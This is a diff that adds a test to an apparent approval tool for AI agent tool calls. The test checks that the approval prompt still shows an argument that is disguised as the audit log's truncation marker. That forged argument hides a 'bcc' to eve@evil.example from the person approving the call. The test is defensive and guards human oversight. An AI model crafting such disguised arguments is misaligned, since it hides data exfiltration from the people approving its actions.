@@ -458,3 +458,22 @@ def test_approve_caps_a_long_reason_and_destination(
     assert ".evil.example" in text and "of 3,017 characters not shown" in text
     assert text.count("pad ") < 150 and text.count("a" * 400) == 0
     assert "Approve it?" in text
+
+
+def test_approve_shows_every_key_of_an_argument_shaped_like_a_cut(
+    cordon_argv: list[str], env: dict[str, str], store_path: Path, tmp_path: Path
+) -> None:
+    # an argument is the agent's JSON: an object spelled as the audit log's cut marker, with
+    # a key of its own, reaches the server whole; shown as a cut string it hid that key from
+    # the person approving exactly that call
+    code = _issue(store_path)
+    audit = tmp_path / "audit.jsonl"
+    forged = {"truncated": True, "head": "weekly notes", "len": 5000, "sha256": "0" * 64}
+    _log_call(audit, code, {"body": {**forged, "bcc": "eve@evil.example"}, "note": forged})
+    argv = [*cordon_argv, "approve", code, "--store", str(store_path), "--audit", str(audit)]
+    rc, out = _run_in_pty(argv, {**env, "COLUMNS": "3000"}, "no\n")
+    assert rc == 1
+    text = _plain(out)
+    assert "eve@evil.example" in text
+    # the marker's own shape is still read as a cut: its every part is shown
+    assert "note weekly notes [cut by the audit log: 5000 bytes in all" in text
